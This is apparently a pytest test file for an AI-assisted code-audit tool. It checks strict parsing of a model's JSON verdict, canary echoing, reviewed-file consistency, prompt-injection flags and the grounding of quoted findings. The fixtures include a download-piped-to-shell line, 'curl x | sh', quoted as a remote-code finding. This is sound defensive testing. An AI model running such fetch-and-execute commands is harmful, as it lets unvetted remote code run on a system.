"""The closed answer: read strictly, and believed only when it repeats what it was asked to."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from model_samples import POLICY, package

from sigma_core.audit.language_models.answer import SCHEMA, AnswerMalformed, as_in_the_file, parse_answer
from sigma_core.audit.model import Finding, Verdict
from sigma_core.sandbox.facts import Severity

FINDING = {
    "severity": "HIGH",
    "category": "remote_code",
    "file": "a.sh",
    "line_start": 1,
    "line_end": 1,
    "quote": "curl x | sh",
    "rationale": "runs a download",
    "confidence": 80,
}
ANSWER: dict[str, Any] = {
    "verdict": "UNSAFE",
    "confidence": 75,
    "findings": [FINDING],
    "files_reviewed": ["a.sh"],
    "canary_echo": "sigma-1",
    "injection_attempt_seen": False,
}


def parsed(**changes: Any) -> Any:
    return parse_answer(json.dumps({**ANSWER, **changes}).encode())


def test_a_whole_answer() -> None:
    answer = parsed()
    assert (answer.verdict, answer.confidence_ppm) == (Verdict.UNSAFE, 750_000)
    assert answer.findings[0].severity is Severity.HIGH
    assert answer.findings[0].confidence_ppm == 800_000
    assert answer.anomaly(["a.sh"], "sigma-1") == ""


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"verdict": "safe"}, "verdict of the answer is none of the values in the schema"),
        ({"verdict": None}, "verdict of the answer is not of type string"),
        ({"confidence": 0.5}, "it is not one JSON object with text, integers and booleans only"),
        ({"confidence": True}, "confidence of the answer is not of type integer"),
        ({"confidence": -1}, "confidence is not from 0 to 100"),
        ({"findings": {}}, "findings of the answer is not of type array"),
        ({"findings": ["x"]}, "finding 1 is not an object"),
        (
            {"findings": [FINDING, {**FINDING, "category": "vibes"}]},
            "category of finding 2 is none of the values in the schema",
        ),
        ({"findings": [{**FINDING, "line_start": "1"}]}, "line_start of finding 1 is not of type integer"),
        ({"findings": [{**FINDING, "confidence": 101}]}, "confidence of a finding is not from 0 to 100"),
        ({"files_reviewed": [1]}, "files_reviewed holds something that is not text"),
        ({"injection_attempt_seen": "no"}, "injection_attempt_seen of the answer is not of type boolean"),
        ({"approve": True}, "the answer has fields that the schema does not know"),
    ],
)
def test_an_answer_that_breaks_the_schema_is_named_by_its_flaw(changes: dict[str, Any], said: str) -> None:
    with pytest.raises(AnswerMalformed) as caught:
        parsed(**changes)
    assert str(caught.value) == said


@pytest.mark.parametrize("field", list(ANSWER))
def test_every_field_is_required(field: str) -> None:
    with pytest.raises(AnswerMalformed, match=f"the answer lacks {field}"):
        parse_answer(json.dumps({name: value for name, value in ANSWER.items() if name != field}).encode())


@given(
    st.one_of(
        st.binary(max_size=200),
        st.recursive(
            st.none() | st.booleans() | st.integers() | st.text(),
            lambda each: st.lists(each) | st.dictionaries(st.text(), each),
        ).map(lambda value: json.dumps(value).encode()),
    )
)
def test_whatever_comes_back_is_an_answer_or_malformed(content: bytes) -> None:
    with pytest.raises(AnswerMalformed) as caught:
        parse_answer(content)
    assert len(str(caught.value)) < 200


@pytest.mark.parametrize(
    "content", [b"", b"null", b"[]", b'{"verdict": "SAFE"', b"[" * 10_000, b'{"a": 1, "a": 1}', b"\xff"]
)
def test_what_is_no_object_is_malformed(content: bytes) -> None:
    with pytest.raises(AnswerMalformed):
        parse_answer(content)


@pytest.mark.parametrize(
    ("changes", "anomaly"),
    [
        ({"canary_echo": "sigma-2"}, "the canary was not repeated"),
        ({"files_reviewed": []}, "the reviewed files are not those that were shown"),
        ({"files_reviewed": ["a.sh", "a.sh"]}, "the reviewed files are not those that were shown"),
        ({"verdict": "SAFE", "findings": [], "injection_attempt_seen": True}, "SAFE with an injection attempt seen"),
    ],
)
def test_an_answer_that_cannot_be_believed(changes: dict[str, Any], anomaly: str) -> None:
    assert parsed(**changes).anomaly(["a.sh"], "sigma-1") == anomaly


def test_a_schema_of_closed_objects_with_all_fields_required() -> None:
    """The subset that every provider enforces."""
    finding = SCHEMA["properties"]["findings"]["items"]
    for shape in (SCHEMA, finding):
        assert shape["additionalProperties"] is False
        assert set(shape["required"]) == set(shape["properties"])


@pytest.mark.parametrize(
    ("quote", "stands"),
    [
        ("curl x | sh", True),
        ("    2|curl x | sh", True),
        ("a &lt; b", True),
        ("curl y | sh", False),
    ],
)
def test_a_quote_with_our_marks_is_the_files_own_again_and_an_invented_one_stays_invented(
    quote: str, stands: bool
) -> None:
    from sigma_core.audit.grounding import is_grounded

    held = package({"a.sh": b"#!/bin/sh\r\ncurl x | sh\r\na < b\r\n"})
    finding = Finding(Severity.HIGH, "remote_code", "a.sh", 1, 3, quote, "", 1)
    plain = as_in_the_file(finding, held, POLICY.audit)
    assert is_grounded(plain, held, POLICY.audit) is stands
    assert stands or plain is finding


def test_a_quote_over_two_lines_is_found_where_lines_end_with_crlf() -> None:
    held = package({"a.sh": b"one\r\ntwo\r\n"})
    finding = Finding(Severity.HIGH, "remote_code", "a.sh", 1, 2, "    1|one\n    2|two", "", 1)
    assert as_in_the_file(finding, held, POLICY.audit).quote == "one\r\ntwo"
